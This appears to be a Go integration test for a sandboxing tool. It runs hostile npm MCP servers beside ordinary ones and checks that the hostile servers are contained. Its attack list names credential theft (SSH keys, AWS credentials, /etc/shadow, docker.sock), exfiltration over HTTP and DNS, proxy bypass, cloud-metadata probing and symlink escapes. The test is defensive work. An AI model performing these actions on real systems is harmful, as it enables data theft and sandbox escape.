//go:build linux

package docker

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/perstack-go/perstack/event"
	"github.com/perstack-go/perstack/internal/testkit/attack"
	"github.com/perstack-go/perstack/internal/testkit/attack/pack"
	"github.com/perstack-go/perstack/internal/testkit/daemon"
	"github.com/perstack-go/perstack/internal/testkit/evil"
	"github.com/perstack-go/perstack/internal/testkit/node"
)

// npxSkill is a skill that is a package of npm.
func npxSkill(t *testing.T, name, spec, more string, args ...string) string {
	t.Helper()
	return fmt.Sprintf("[experts.host.skills.%s]\ntype = \"mcpStdioSkill\"\ncommand = \"npx\"\nargs = %s\ntoolPrefix = true\n%s", name, encode(t, append([]string{"-y", spec}, args...)), more)
}

// fromNPM is an Expert with hostile and with ordinary servers from npm.
func fromNPM(t *testing.T) string {
	t.Helper()
	guest, home := pack.HostilePackage+"@"+pack.PackageVersion, pack.VictimPackage+"@"+pack.PackageVersion
	return "[experts.host]\ninstruction = \"You are the host.\"\n" +
		npxSkill(t, "guest", guest, "allowedDomains = [\"{guest}\"]\n", "attackd", "serve") +
		npxSkill(t, "home", home, "requiredEnv = [\"VICTIM_SECRET\"]\nallowedDomains = [\"{home}\"]\n", "attackd", "serve") +
		npxSkill(t, "fixture", guest, "allowedDomains = [\"{guest}\"]\n", "fixture") +
		npxSkill(t, "evil", guest, "", "evilmcp", "hunt", "--everywhere", "--levels", "6") +
		npxSkill(t, "everything", node.Everything, "") +
		npxSkill(t, "files", node.Filesystem, "workspace = \"readOnly\"\n", ".") +
		npxSkill(t, "memory", node.Memory, "requiredEnv = [\"MEMORY_FILE_PATH\"]\n")
}

// An attempt is what the tools of the fixture answer.
type attempt struct {
	Success bool     `json:"success"`
	Blocked bool     `json:"blocked"`
	Error   string   `json:"error"`
	Code    string   `json:"code"`
	Status  int      `json:"status"`
	Body    string   `json:"body"`
	Size    int      `json:"size"`
	Content string   `json:"content"`
	Keys    []string `json:"keys"`
	Leaked  []string `json:"leaked_sensitive"`
	Taken   []string `json:"harvested"`
	DNS     *attempt `json:"dns"`
	HTTPS   *attempt `json:"https"`
}

// A try is a call of the fixture. Row is that of the list of attacks.
type try struct {
	row, tool string
	args      object
	blocked   bool // that is wanted; else success
}

// tries are the attacks that hostile packages made.
func (s *skillsProject) tries() []try {
	page := func(host string) string { return "https://" + host + "/page" }
	foreign := "foreign-" + s.tag + ".blocked.test"
	all := []try{
		{"X11", "http_get", object{"url": page(s.guestHost())}, false},
		{"X11", "https_module", object{"url": page(s.guestHost())}, false},
		{"X12", "http_get", object{"url": page(s.homeHost())}, true},
		{"X12", "https_module", object{"url": page(s.homeHost())}, true},
		{"X12", "http_get", object{"url": page(foreign)}, true},
		{"X12", "http_get", object{"url": "http://" + s.guestHost() + "/plain"}, true},
		{"X8", "bypass_proxy", object{"url": page(s.guestHost())}, true},
		{"X8", "bypass_proxy", object{"url": "https://" + s.outside() + "/"}, true},
		{"X10", "exfiltrate_data", object{"target_url": page(foreign), "data": "secret"}, true},
		{"X10", "exfiltrate_data", object{"target_url": page(s.homeHost()), "data": "secret"}, true},
		{"X10", "fetch_arbitrary", object{"url": page(foreign), "method": "GET"}, true},
		{"X13", "dns_exfiltrate", object{"data": "secret", "domain": foreign}, true},
		{"X14", "harvest_and_exfiltrate_env", object{"exfil_url": page(foreign)}, true},
		{"X14", "harvest_and_exfiltrate_env", object{"exfil_url": "https://localhost/dummy"}, true},
		{"X9", "list_env", object{}, false},
		{"X3", "read_sensitive", object{"target": "proc_environ"}, false},
		{"X5", "symlink_attack", object{"target_path": "/etc/passwd", "link_name": "fixture-link-passwd"}, false},
		{"X6", "symlink_attack", object{"target_path": "/etc/shadow", "link_name": "fixture-link-shadow"}, true},
		{"X7", "symlink_attack", object{"target_path": "/host-root/etc/passwd", "link_name": "fixture-link-host"}, true},
	}
	for _, provider := range []string{"aws", "gcp", "azure"} {
		all = append(all, try{"X1", "fetch_metadata", object{"provider": provider}, true})
	}
	for _, target := range []string{"localhost", "docker_host", "kubernetes", "metadata_ip"} {
		all = append(all, try{"X2", "access_internal", object{"target": target}, true})
	}
	for _, target := range []string{"etc_shadow", "ssh_key", "aws_creds", "docker_sock"} {
		all = append(all, try{"X4", "read_sensitive", object{"target": target}, true})
	}
	for _, target := range []string{"parent_environ", "engine_environ"} {
		all = append(all, try{"M6", "read_sensitive", object{"target": target}, true})
	}
	return all
}

// outside is the address of a server that only the proxy reaches.
func (s *skillsProject) outside() string {
	if s.world == nil {
		return "192.0.2.1" // the list alone is wanted
	}
	return s.world.Web.String()
}

func (s *skillsProject) checkTry(o outcome, id string, a try) {
	t := s.t
	t.Helper()
	got := answered[attempt](t, o, id)
	if got.Blocked != a.blocked || got.Success == a.blocked {
		t.Errorf("%s: %s %v: success %t, blocked %t (%s %s)", a.row, a.tool, a.args, got.Success, got.Blocked, got.Code, got.Error)
	}
	if len(got.Leaked) > 0 || len(got.Taken) > 0 || strings.Contains(got.Body+got.Content, s.canary) {
		t.Errorf("%s: %s %v: it has secrets: %v %v", a.row, a.tool, a.args, got.Leaked, got.Taken)
	}
	switch a.row {
	case "X13":
		if got.DNS == nil || got.DNS.Success || got.HTTPS == nil || got.HTTPS.Success {
			t.Errorf("%s: a name has left: %+v %+v", a.row, got.DNS, got.HTTPS)
		}
	case "X9":
		if len(got.Keys) == 0 || slices.ContainsFunc(got.Keys, func(k string) bool {
			return strings.HasPrefix(k, "AWS_") || k == "GITHUB_TOKEN" || k == attack.SecretVariable
		}) {
			t.Errorf("%s: its variables: %v", a.row, got.Keys)
		}
		for _, name := range []string{"HTTPS_PROXY", "NODE_USE_ENV_PROXY", "NODE_EXTRA_CA_CERTS"} {
			if !slices.Contains(got.Keys, name) {
				t.Errorf("%s is not set: %v", name, got.Keys)
			}
		}
	case "X5":
		if strings.Count(got.Content, "\n") > 4 {
			t.Errorf("%s: the users of another machine: %s", a.row, got.Content)
		}
	case "X11":
		if got.Status != 200 {
			t.Errorf("%s: status %d", a.row, got.Status)
		}
	}
}

// TestNpmSkillsAttackOneAnother has servers from npm in sandboxes of their own: hostile ones attack, and
// the real ones work beside them.
func TestNpmSkillsAttackOneAnother(t *testing.T) {
	t.Parallel()
	need(t)
	image := daemon.NodeImage(t, daemon.Name(t))
	daemon.RemoveAbove(t, daemon.Need(t), image)
	s := newSkillsProject(t, fmt.Sprintf("nodeImage = %q\n", image), fromNPM(t), map[string]string{"notes.txt": "three open points\n", ".env": "SOME_TOKEN=x\n"})
	// By that variable the image gets the authorities that skills trust.
	s.env = append(s.env, "MEMORY_FILE_PATH=/workspace/memory.jsonl", "SSL_CERT_FILE="+s.world.CA)
	s.npx()
	hidden := attack.Hide(s.canary)
	calls := []string{
		ask(t, "attack", "guest__attack", object{"targets": []string{"home.json"}, "say": "tried"}),
		ask(t, "search", "guest__search", object{"hidden": hidden}),
		ask(t, "guestOwn", "guest__visit", object{"host": s.guestHost()}),
		ask(t, "guestOther", "guest__visit", object{"host": s.homeHost()}),
		ask(t, "homeOwn", "home__visit", object{"host": s.homeHost()}),
		ask(t, "homeOther", "home__visit", object{"host": s.guestHost()}),
		ask(t, "hunt", "evil__hunt", object{}),
		askExec(t, "exec", "./attackd", "attack", "exec.json", "home.json", "guest.json"),
		askExec(t, "execSearch", "./attackd", "search", "exec-search.json", hidden),
	}
	tries := s.tries()
	for i, a := range tries {
		calls = append(calls, ask(t, fmt.Sprintf("try%d", i), "fixture__"+a.tool, a.args))
	}
	s.on("the host", "begin the day",
		ask(t, "prepare", "home__prepare", object{"target": "home.json", "host": s.homeHost(), "say": "prepared"}),
		ask(t, "prepareGuest", "guest__prepare", object{"target": "guest.json", "host": s.guestHost()}))
	s.on("the host", "prepared", calls...)
	s.on("the host", "tried", ask(t, "stay", "home__stay", object{"until": "go-on"}))
	s.say("the host", "and no more", "All is well.")
	s.on("the host", "signals",
		ask(t, "sum", "everything__get-sum", object{"a": 40, "b": 2}),
		ask(t, "environment", "everything__get-env", object{}),
		ask(t, "read", "files__read_text_file", object{"path": "notes.txt"}),
		ask(t, "write", "files__write_file", object{"path": "new.txt", "content": "x"}),
		ask(t, "out", "files__read_text_file", object{"path": "/etc/passwd"}),
		ask(t, "make", "memory__create_entities", object{"entities": []object{{"name": "Ana", "entityType": "person", "observations": []string{"likes rain"}}}}),
		ask(t, "end", "home__check", object{"say": "and no more"}))
	s.serve(s.script.String())

	job := s.job()
	run := s.start("host", "begin the day", "--job-id", job)
	run.mustAwait(`"toolName":"guest__attack"`)
	look := looker{t: t, canary: []byte(s.canary)}
	site := inspect(t, job)
	look.at("inspect", site.raw)
	look.atImage(site.find(t, "runtime").Image)
	s.write("go-on", nil, 0o644)
	code := run.end()
	o := outcome{code: code, stdout: run.stdout(), stderr: run.stderr(), events: s.events([]byte(run.stdout()))}.must(t, 0)

	checkPrepared(t, "home", answered[attack.Prepared](t, o, "prepare"), true)
	checkAttack(t, "guest", answered[attack.Attacked](t, o, "attack"), "home.json")
	checkAttack(t, "exec", readJSON[attack.Attacked](s.project, "exec.json"), "home.json", "guest.json")
	checkSearch(t, "guest", answered[attack.Searched](t, o, "search"))
	checkSearch(t, "exec", readJSON[attack.Searched](s.project, "exec-search.json"))
	checkUntouched(t, "home", answered[attack.Checked](t, o, "stay"))
	checkHosts(t, o, map[string]bool{"guestOwn": true, "guestOther": false, "homeOwn": true, "homeOther": false})
	for i, a := range tries {
		s.checkTry(o, fmt.Sprintf("try%d", i), a)
	}
	hunted := answered[struct {
		Found []evil.Find `json:"found"`
	}](t, o, "hunt")
	if len(hunted.Found) == 0 {
		t.Error("evilmcp looked at nothing")
	}
	for _, f := range hunted.Found {
		if (f.Who == "ancestor" || f.Who == "other") && f.Error == "" {
			t.Errorf("evilmcp sees %+v", f)
		}
	}
	s.checkOrdinary(o)
	s.checkNowhere(job, o)
}

// checkOrdinary holds what the real servers did.
func (s *skillsProject) checkOrdinary(o outcome) {
	t := s.t
	t.Helper()
	results := o.results()
	for id, want := range map[string]struct {
		text   string
		failed bool
	}{
		"sum": {"The sum of 40 and 2 is 42.", false}, "environment": {"HTTPS_PROXY", false}, "read": {"three open points", false}, "write": {"", true}, "out": {"", true}, "make": {"Ana", false},
	} {
		r, ok := results[id]
		text := string(encode(t, r.Result))
		if !ok || r.IsError != want.failed || !strings.Contains(text, want.text) || strings.Contains(text, s.canary) {
			t.Errorf("%s: failed %t: %.500s", id, r.IsError, text)
		}
	}
	if !strings.Contains(string(s.read("memory.jsonl")), "Ana") {
		t.Error("the memory server has kept nothing")
	}
	for _, name := range []string{"guest", "home", "fixture", "evil", "everything", "files", "memory"} {
		if !slices.ContainsFunc(o.events, func(e event.Event) bool {
			b, ok := e.Body.(event.SkillConnected)
			return ok && b.SkillName == name
		}) {
			t.Errorf("the skill %s did not connect", name)
		}
	}
}
